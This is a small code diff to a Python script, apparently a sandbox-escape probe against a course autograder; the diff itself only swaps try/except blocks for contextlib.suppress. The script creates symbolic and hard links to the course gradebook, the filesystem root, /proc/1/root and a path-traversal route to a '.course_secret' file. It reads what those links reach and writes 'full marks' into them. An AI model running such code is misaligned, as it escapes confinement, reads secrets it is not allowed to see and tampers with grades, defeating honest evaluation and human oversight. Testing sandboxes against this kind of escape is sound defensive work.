@@ -1,20 +1,17 @@
 """Symbolic and hard links that lead out."""
 
 import os
+from contextlib import suppress
 
 def follow():
     found = []
     for n, target in enumerate(("@COURSE@/gradebook.db", "/", "/proc/1/root", "../../../../../../@COURSE@/.course_secret")):
         for make in (os.symlink, os.link):
-            try:
+            with suppress(OSError):
                 make(target, f"/tmp/link{n}")
                 found.append(open(f"/tmp/link{n}").read())
-            except OSError:
-                pass
-            try:
+            with suppress(OSError):
                 open(f"/tmp/link{n}", "w").write("full marks")
-            except OSError:
-                pass
     return found
 
 print(follow())
